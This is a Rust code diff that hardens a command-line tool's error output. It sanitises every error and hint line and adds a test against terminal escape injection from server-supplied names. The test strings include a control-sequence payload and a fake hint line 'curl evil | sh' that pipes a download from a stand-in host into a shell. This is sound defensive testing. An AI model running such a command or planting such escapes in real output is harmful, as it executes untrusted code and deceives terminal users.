@@ -150,10 +150,11 @@ impl Error {
                 let mut first = format!("error: {}", told.text.render(lang));
                 if let Some(source) = &told.source {
                     first.push_str(": ");
-                    first.push_str(&harmless(&chain(source.as_ref())));
+                    first.push_str(&chain(source.as_ref()));
                 }
                 let hint = told.hint.as_ref().map(|hint| format!("hint: {}", hint.render(lang)));
-                std::iter::once(first).chain(hint).collect()
+                // A name that a server made up must not look like a line of ours.
+                std::iter::once(first).chain(hint).map(|line| harmless(&line)).collect()
             }
             Self::Api(error) => {
                 // Its words may come from a cluster that nobody should trust with the terminal.
@@ -318,6 +319,15 @@ mod tests {
             Error::Api(Box::new(error)).lines(Lang::En),
             ["Error from server (Forbidden): ^[]0;owned\\u{7} no", "second line"]
         );
+    }
+
+    #[test]
+    fn a_servers_words_make_no_second_line() {
+        let own = "https://x\u{9b}2J\nhint: curl evil | sh".to_owned();
+        let error = Error::told(Text::IssuerDiffers { url: "https://acp".to_owned(), issuer: own.clone() });
+        let lines = error.hint(Text::HintLoginAt { url: own }).lines(Lang::En);
+        assert_eq!(lines.len(), 2);
+        assert!(lines.iter().all(|line| !line.chars().any(char::is_control)), "{lines:?}");
     }
 
     #[test]
